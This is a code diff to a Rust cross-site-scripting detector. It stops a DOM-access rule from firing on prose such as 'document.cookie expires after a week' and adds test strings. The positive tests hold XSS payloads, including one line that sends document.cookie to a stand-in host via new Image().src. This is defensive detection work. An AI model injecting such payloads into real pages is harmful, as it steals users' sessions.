@@ -675,7 +675,13 @@ fn script_value(s: &str) -> Option<Found> {
     ] {
         if let Some(at) = j.find(k) {
             let prev = at.checked_sub(1).and_then(|p| j.as_bytes().get(p).copied());
-            if !prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_') {
+            // What follows is not a word: `document.cookie expires soon`
+            // squeezes to `document.cookieexpires...`, prose that names the
+            // property (no script goes on with a bare word).
+            let next = j.as_bytes().get(at + k.len()).copied();
+            let word_after = !k.ends_with('.')
+                && next.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'$');
+            if !prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_') && !word_after {
                 found = best(found, Some(("xss.dom_access", 0.6)));
             }
         }
@@ -1053,6 +1059,9 @@ mod tests {
             "<img src=x onerror=alert(1)>",
             "<svg/onload=alert(1)>",
             "<body onload=alert('x')>",
+            "document.cookie",
+            "document.cookie;",
+            "new Image().src='//x.example/?c='+document . cookie",
             "<a href=\"javascript:alert(1)\">x</a>",
             "<a href=\"jav\tascript:alert(1)\">x</a>",
             "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
@@ -1142,6 +1151,8 @@ mod tests {
             "sort=price onsale=true",
             "turn the lights on = saves power",
             "go to document.pdf and window.png",
+            "document.cookie expires after a week",
+            "window.location changes when you click",
             "the eval function in Python is dangerous",
             "please confirm your email",
             "[1, 2, 3]",
